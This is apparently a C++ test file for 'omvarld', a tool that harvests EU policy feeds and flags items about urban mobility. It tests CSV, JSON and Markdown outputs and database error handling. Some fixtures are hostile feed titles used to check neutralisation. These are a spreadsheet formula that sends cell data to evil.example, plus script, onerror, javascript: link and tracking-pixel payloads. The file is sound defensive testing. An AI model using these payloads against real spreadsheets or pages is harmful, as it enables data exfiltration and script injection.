// What omvarld writes for other programs and people to open: CSV that a real
// CSV reader reads column for column, machine formats that list everything,
// a Markdown digest that a real Markdown renderer (GitHub's cmark-gfm) shows
// as text, CSV cells a spreadsheet will not run; and the read-only commands
// on a missing, mistyped or read-only database.
#include <gtest/gtest.h>
#include <rapidjson/document.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "core/text.h"
#include "parse/csv_table.h"
#include "store/sqlite.h"
#include "store/store.h"
#include "support/test_support.h"

namespace omvarld {
namespace {

using test::run_omvarld;
namespace fs = std::filesystem;

std::string xml_text(const std::string& s) {
  std::string out;
  for (char c : s) {
    if (c == '&')
      out += "&amp;";
    else if (c == '<')
      out += "&lt;";
    else
      out.push_back(c);
  }
  return out;
}

// An RSS feed with `n` items about public transport in cities (so each is
// flagged), the first ones with hostile titles.
std::string feed(int n, const std::vector<std::string>& hostile_titles) {
  std::string s = "<rss version=\"2.0\"><channel><title>EUR-Lex</title>";
  for (int i = 0; i < n; ++i) {
    const std::string title =
        i < static_cast<int>(hostile_titles.size())
            ? hostile_titles[static_cast<size_t>(i)]
            : "Urban mobility: public transport in cities, part " + std::to_string(i);
    s += "<item><title>" + xml_text(title) + "</title><link>https://eur-lex.europa.eu/" +
         std::to_string(i) + "</link><guid>COM-" + std::to_string(i) +
         "</guid><description>Public transport and urban mobility in municipalities"
         "</description></item>";
  }
  return s + "</channel></rss>";
}

struct Harvested {
  test::TempDir dir;
  test::LoopbackHttpServer server;
  std::string db;
};

void harvest(Harvested& h, int n, const std::vector<std::string>& hostile = {}) {
  const std::string body = feed(n, hostile);
  h.server.server.Get("/feed", [body](const httplib::Request&, httplib::Response& res) {
    res.set_content(body, "application/rss+xml");
  });
  h.db = h.dir.file("omvarld.db");
  auto r = run_omvarld({"harvest", "--db", h.db, "--feed", h.server.url("/feed"), "--kind", "rss"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
}

TEST(CliOutputs, FlagsCsvHeaderAndRowsAgreeForACsvReader) {
  Harvested h;
  harvest(h, 3, {"Clean vehicles, \"charging\" points\nand more"});
  auto r = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto table = parse_csv(r.out, "flags --format csv");
  ASSERT_TRUE(table.ok()) << table.error().message;
  ASSERT_EQ(table->rows.size(), 3u);
  for (const auto& row : table->rows) EXPECT_EQ(row.size(), table->header.size());
  auto title = table->column("title");
  auto link = table->column("link");
  auto model_p = table->column("model_p");
  ASSERT_TRUE(title && link && model_p);
  bool found = false;
  for (const auto& row : table->rows) {
    EXPECT_EQ(row[*link].text.rfind("https://eur-lex.europa.eu/", 0), 0u) << row[*link].text;
    EXPECT_EQ(row[*model_p].text, "");  // no model trained
    found |= row[*title].text == "Clean vehicles, \"charging\" points and more";
  }
  EXPECT_TRUE(found) << r.out;
}

TEST(CliOutputs, MachineFormatsListEverythingAndACutTableSaysSo) {
  Harvested h;
  harvest(h, 620);
  auto csv = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  auto table = parse_csv(csv.out, "csv");
  ASSERT_TRUE(table.ok());
  EXPECT_EQ(table->rows.size(), 620u);
  auto json = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "json"});
  ASSERT_EQ(json.exit_code, 0);
  rapidjson::Document d;
  d.Parse(json.out.c_str());
  ASSERT_TRUE(d.IsArray());
  EXPECT_EQ(d.Size(), 620u);
  auto limited =
      run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "json", "--limit", "7"});
  d.Parse(limited.out.c_str());
  ASSERT_TRUE(d.IsArray());
  EXPECT_EQ(d.Size(), 7u);
  EXPECT_NE(limited.err.find("only the first 7"), std::string::npos) << limited.err;
  auto shown = run_omvarld({"flags", "--db", h.db, "--status", "all"});
  ASSERT_EQ(shown.exit_code, 0);
  EXPECT_NE(shown.err.find("only the first 500 items are shown"), std::string::npos) << shown.err;
  EXPECT_EQ(std::count(shown.out.begin(), shown.out.end(), '\n'), 502);  // header, rule, 500
}

TEST(CliOutputs, CsvCellsASpreadsheetWouldRunAreNeutralised) {
  Harvested h;
  harvest(h, 2,
          {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Urban mobility\")",
           "@SUM(1+1) public transport in cities"});
  auto r = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
  ASSERT_EQ(r.exit_code, 0);
  auto table = parse_csv(r.out, "csv");
  ASSERT_TRUE(table.ok());
  auto title = table->column("title");
  ASSERT_TRUE(title);
  int seen = 0;
  for (const auto& row : table->rows) {
    const std::string& t = row[*title].text;
    EXPECT_NE(t[0], '=') << t;
    EXPECT_NE(t[0], '@') << t;
    if (t == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Urban mobility\")" ||
        t == "'@SUM(1+1) public transport in cities")
      ++seen;
  }
  EXPECT_EQ(seen, 2) << r.out;
}

TEST(CliOutputs, MarkdownDigestRendersHostileTitlesAsText) {
  if (!fs::exists("/usr/bin/cmark-gfm"))
    GTEST_SKIP() << "cmark-gfm is not installed (scripts/test.sh installs it)";
  Harvested h;
  harvest(
      h, 5,
      {"<script>alert(1)</script> urban mobility", "<img src=x onerror=alert(2)> public transport",
       "[click here](javascript:alert(3)) for cities",
       "![tracker](https://tracker.example/pixel.gif) urban mobility in cities",
       "**bold** _claim_ | pipe ` code # urban mobility"});
  auto r = run_omvarld({"report", "flags", "--db", h.db, "--lang", "en", "--markdown", "--out",
                        h.dir.file("flags.html")});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const std::string md = test::read_file(h.dir.file("flags.md"));
  test::write_file(h.dir.file("in.md"), md);
  const std::string cmd = "/usr/bin/cmark-gfm --unsafe -e table -e autolink -e strikethrough " +
                          h.dir.file("in.md") + " > " + h.dir.file("out.html");
  ASSERT_EQ(std::system(cmd.c_str()), 0);
  // --unsafe: the renderer passes raw HTML through, as many do; none may be there.
  const std::string html = test::read_file(h.dir.file("out.html"));
  EXPECT_EQ(html.find("<script"), std::string::npos) << html;
  EXPECT_EQ(html.find("<img"), std::string::npos) << html;
  EXPECT_EQ(html.find("href=\"javascript"), std::string::npos) << html;
  EXPECT_EQ(html.find("href=\"https://tracker.example"), std::string::npos) << html;
  EXPECT_EQ(html.find("<strong>bold"), std::string::npos) << html;
  EXPECT_EQ(html.find("<em>claim"), std::string::npos) << html;
  EXPECT_EQ(html.find("<code>"), std::string::npos) << html;
  EXPECT_EQ(html.find("<table"), std::string::npos) << html;
  // The text is there, as text.
  // (The <script> title is read as HTML by the feed reader, as feedparser
  // does, so only its text arrives; the <img ...> one is no tag to it and
  // arrives as written, to be escaped.)
  EXPECT_NE(html.find("&lt;img src=x onerror=alert(2)&gt; public transport"), std::string::npos)
      << html;
  EXPECT_NE(html.find("[click here](javascript:alert(3)) for cities"), std::string::npos) << html;
  EXPECT_NE(html.find("![tracker](https://tracker.example/pixel.gif) urban"), std::string::npos)
      << html;
  EXPECT_NE(html.find("**bold** _claim_ | pipe ` code # urban mobility"), std::string::npos)
      << html;
  // The items' own links are links.
  EXPECT_NE(html.find("<a href=\"https://eur-lex.europa.eu/0\">"), std::string::npos) << html;
}

TEST(CliOutputs, FlagsEvaluateMeasuresTheRulesAgainstALabelsFile) {
  Harvested h;
  h.db = h.dir.file("omvarld.db");
  const std::string feed_body =
      "<rss version=\"2.0\"><channel><title>EUR-Lex</title>"
      "<item><title>Urban mobility: public transport in cities</title>"
      "<link>https://eur-lex.europa.eu/0</link><guid>COM-0</guid></item>"
      "<item><title>Public transport in cities again</title>"
      "<link>https://eur-lex.europa.eu/1</link><guid>COM-1</guid></item>"
      "<item><title>Fisheries quotas in the Baltic</title>"
      "<link>https://eur-lex.europa.eu/2</link><guid>COM-2</guid></item></channel></rss>";
  test::LoopbackHttpServer server;
  server.server.Get("/feed", [feed_body](const httplib::Request&, httplib::Response& res) {
    res.set_content(feed_body, "application/rss+xml");
  });
  auto hv = run_omvarld({"harvest", "--db", h.db, "--feed", server.url("/feed"), "--kind", "rss"});
  ASSERT_EQ(hv.exit_code, 0) << hv.err;
  // COM-0 relevant and flagged; COM-1 flagged but labelled not relevant; the
  // fisheries item labelled relevant (by link) and missed; one unknown key.
  test::write_file(h.dir.file("labels.tsv"),
                   "# an officer's labels\n"
                   "id_or_link\tlabel\tsplit\n"
                   "COM-0\tyes\ttest\n"
                   "COM-1\t0\ttest\n"
                   "https://eur-lex.europa.eu/2\t2\ttest\n"
                   "COM-404\t1\ttest\n"
                   "1\t0\ttest\n"  // a source's number, not omvarld's item 1
                   "COM-0\t2\tdev\n");
  auto r =
      run_omvarld({"flags", "evaluate", h.dir.file("labels.tsv"), "--db", h.db, "--split", "test"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("5 label(s) of split test"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("3 matched a stored item, 2 did not"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("clearly relevant (2):  2, flagged 1: recall 0.50"), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("not relevant (0):      1, flagged 1: precision 0.50"), std::string::npos)
      << r.out;
  // COM-0 (two transport terms) outscores COM-1 (one); the fisheries item
  // scores 0: one pair won of two.
  EXPECT_NE(r.out.find("AUC of the score (2 against 0): 0.50"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("not found in the database: COM-404"), std::string::npos) << r.err;
  auto bad = run_omvarld(
      {"flags", "evaluate", h.dir.file("labels.tsv"), "--db", h.db, "--split", "heldout"});
  EXPECT_EQ(bad.exit_code, 2);
  test::write_file(h.dir.file("bad.tsv"), "id_or_link\tlabel\nCOM-0\tperhaps\n");
  auto garbled = run_omvarld({"flags", "evaluate", h.dir.file("bad.tsv"), "--db", h.db});
  EXPECT_EQ(garbled.exit_code, 1);
  EXPECT_NE(garbled.err.find("bad.tsv, line 2: label \"perhaps\""), std::string::npos)
      << garbled.err;
}

TEST(CliOutputs, WorthALookIsShownWithItsGradeAndFiltered) {
  Harvested h;
  h.db = h.dir.file("omvarld.db");
  // Flagged (a transport term in the title), worth a look (only the context
  // words "transport" and "traffic" in the title: 15), and not (nothing).
  const std::string body =
      "<rss version=\"2.0\"><channel><title>EUR-Lex</title>"
      "<item><title>Public transport in cities</title><guid>A</guid></item>"
      "<item><title>Transport and traffic statistics</title><guid>B</guid></item>"
      "<item><title>Fisheries quotas</title><guid>C</guid></item></channel></rss>";
  h.server.server.Get("/feed", [body](const httplib::Request&, httplib::Response& res) {
    res.set_content(body, "application/rss+xml");
  });
  ASSERT_EQ(run_omvarld({"harvest", "--db", h.db, "--feed", h.server.url("/feed"), "--kind", "rss"})
                .exit_code,
            0);
  auto grade_of = [](const CsvTable& t, const std::string& title) {
    for (const auto& row : t.rows)
      if (row[*t.column("title")].text == title) return row[*t.column("grade")].text;
    return std::string("(absent)");
  };
  auto inbox = parse_csv(run_omvarld({"flags", "--db", h.db, "--format", "csv"}).out, "csv");
  ASSERT_TRUE(inbox.ok());
  EXPECT_EQ(inbox->rows.size(), 2u);
  EXPECT_EQ(grade_of(*inbox, "Public transport in cities"), "flag");
  EXPECT_EQ(grade_of(*inbox, "Transport and traffic statistics"), "look");
  EXPECT_EQ(grade_of(*inbox, "Fisheries quotas"), "(absent)");
  auto looks = parse_csv(
      run_omvarld({"flags", "--db", h.db, "--grade", "look", "--format", "csv"}).out, "c");
  ASSERT_TRUE(looks.ok());
  ASSERT_EQ(looks->rows.size(), 1u);
  EXPECT_EQ(looks->rows[0][*looks->column("flagged")].text, "no");
  auto all = parse_csv(
      run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"}).out, "c");
  ASSERT_TRUE(all.ok());
  EXPECT_EQ(grade_of(*all, "Fisheries quotas"), "none");
  auto table = run_omvarld({"flags", "--db", h.db});
  EXPECT_NE(table.out.find("look"), std::string::npos) << table.out;
  // The digest carries the item worth a look, marked so.
  auto digest = run_omvarld({"report", "flags", "--db", h.db, "--lang", "en", "--markdown", "--out",
                             h.dir.file("flags.html")});
  ASSERT_EQ(digest.exit_code, 0) << digest.err;
  const std::string md = test::read_file(h.dir.file("flags.md"));
  EXPECT_NE(md.find("(worth a look) Transport and traffic statistics"), std::string::npos) << md;
  EXPECT_EQ(md.find("Fisheries"), std::string::npos) << md;
}

TEST(CliOutputs, ReadOnlyCommandsRefuseAMissingDatabaseAndCreateNothing) {
  test::TempDir dir;
  const std::string db = dir.file("typo/omvarld.db");
  const std::vector<std::vector<std::string>> commands = {
      {"flags", "--db", db},
      {"flag", "1", "--db", db},
      {"rank", "--db", db},
      {"series", "--db", db, "--dataset", "urb_cpop1"},
      {"runs", "--db", db},
      {"catalogue", "search", "population", "--db", db},
      {"report", "flags", "--db", db, "--out", dir.file("flags.html")},
      {"report", "benchmark", "--db", db, "--out", dir.file("b.html"), "--uncertainty", "0"},
      {"backup", "--db", db, dir.file("copy.db")},
      {"serve", "--db", db, "--listen", "127.0.0.1:0"},  // writes decisions, creates nothing
  };
  for (const auto& args : commands) {
    auto r = run_omvarld(args);
    EXPECT_EQ(r.exit_code, 1) << args[0] << ": " << r.err;
    EXPECT_NE(r.err.find("no database at " + db), std::string::npos) << args[0] << ": " << r.err;
    EXPECT_NE(r.err.find("omvarld init"), std::string::npos) << r.err;
    EXPECT_FALSE(fs::exists(dir.file("typo"))) << args[0];
  }
  EXPECT_EQ(std::distance(fs::directory_iterator(dir.path()), fs::directory_iterator()), 0);
  // init creates it; then the same commands work on the empty database.
  auto init = run_omvarld({"init", "--db", db});
  ASSERT_EQ(init.exit_code, 0) << init.err;
  EXPECT_TRUE(fs::exists(db));
  EXPECT_TRUE(fs::exists(dir.file("typo/omvarld.decisions.db")));
  EXPECT_EQ(run_omvarld({"flags", "--db", db}).exit_code, 0);
  EXPECT_EQ(run_omvarld({"runs", "--db", db}).exit_code, 0);
}

TEST(CliOutputs, FileThatIsNotADatabaseIsNamedSo) {
  test::TempDir dir;
  test::write_file(dir.file("notes.txt"), std::string(4096, 'x'));
  auto r = run_omvarld({"flags", "--db", dir.file("notes.txt")});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("is not an SQLite database"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("writable"), std::string::npos) << r.err;
  auto h = run_omvarld({"harvest", "--db", dir.file("notes.txt"), "--only", "feeds"});
  EXPECT_NE(h.exit_code, 0);
  EXPECT_EQ(test::read_file(dir.file("notes.txt")), std::string(4096, 'x'));
}

TEST(CliOutputs, NegativeSchemaVersionIsRefusedNotACrash) {
  Harvested h;
  harvest(h, 1);
  {
    auto db = Db::open(h.db);
    ASSERT_TRUE(db.ok() && db->exec("PRAGMA user_version=-1").ok());
  }
  auto r = run_omvarld({"flags", "--db", h.db});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_NE(r.err.find("schema version -1"), std::string::npos) << r.err;
}

TEST(CliOutputs, DecisionFromTheCommandLineWhileAHarvestHoldsTheDatabase) {
  Harvested h;
  harvest(h, 1);
  // What a harvest does while it writes a dataset: the database's write
  // lock, held in an open transaction.
  auto harvesting = Store::open(h.db, Access::kReadWrite);
  ASSERT_TRUE(harvesting.ok());
  auto tx = Transaction::begin(harvesting->db());
  ASSERT_TRUE(tx.ok());
  ASSERT_TRUE(harvesting->db().exec("INSERT INTO meta VALUES('harvest', 'busy')").ok());
  auto r = run_omvarld(
      {"flag", "1", "--db", h.db, "--status", "relevant", "--note", "svara via Eurocities"},
      {"USER=anna"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("note:       svara via Eurocities"), std::string::npos) << r.out;
  ASSERT_TRUE(tx->commit().ok());
  auto shown = run_omvarld({"flags", "--db", h.db, "--status", "relevant", "--format", "csv"});
  EXPECT_EQ(std::count(shown.out.begin(), shown.out.end(), '\n'), 2) << shown.out;
}

// Runs the binary as an unprivileged user when the tests run as root (CI),
// so that file permissions mean what they say.
test::RunResult run_unprivileged(const std::vector<std::string>& args) {
  if (::geteuid() != 0) return run_omvarld(args);
  std::vector<std::string> wrapped = {"--reuid=65534", "--regid=65534", "--clear-groups",
                                      OMVARLD_BINARY};
  wrapped.insert(wrapped.end(), args.begin(), args.end());
  return test::run_program("/usr/bin/setpriv", wrapped);
}

TEST(CliOutputs, ReadOnlyDatabaseFileCanBeRead) {
  if (::geteuid() == 0 && !fs::exists("/usr/bin/setpriv"))
    GTEST_SKIP() << "running as root without setpriv to drop privileges";
  Harvested h;
  harvest(h, 3);
  // The folder and both files read-only (a database on a read-only share).
  fs::permissions(h.dir.path(), fs::perms::owner_all | fs::perms::group_read |
                                    fs::perms::group_exec | fs::perms::others_read |
                                    fs::perms::others_exec);
  test::TempDir out;
  fs::permissions(out.path(), fs::perms::all);
  for (const std::string& f : {h.db, h.dir.file("omvarld.decisions.db")})
    fs::permissions(f, fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
  for (const char* suffix : {"-wal", "-shm"})
    for (const std::string& f : {h.db, h.dir.file("omvarld.decisions.db")})
      if (fs::exists(f + suffix))
        fs::permissions(f + suffix,
                        fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
  auto flags = run_unprivileged({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
  EXPECT_EQ(flags.exit_code, 0) << flags.err;
  EXPECT_EQ(std::count(flags.out.begin(), flags.out.end(), '\n'), 4) << flags.out;
  auto runs = run_unprivileged({"runs", "--db", h.db});
  EXPECT_EQ(runs.exit_code, 0) << runs.err;
  auto report = run_unprivileged(
      {"report", "flags", "--db", h.db, "--out", out.file("flags.html"), "--lang", "en"});
  EXPECT_EQ(report.exit_code, 0) << report.err;
  EXPECT_TRUE(fs::exists(out.file("flags.html")));
  EXPECT_NE(report.err.find("not recorded"), std::string::npos) << report.err;
  // Deciding needs write access, and says so.
  auto decide = run_unprivileged({"flag", "1", "--db", h.db, "--status", "relevant"});
  EXPECT_EQ(decide.exit_code, 1) << decide.err;
  fs::permissions(h.dir.path(), fs::perms::owner_all);
}

}  // namespace
}  // namespace omvarld
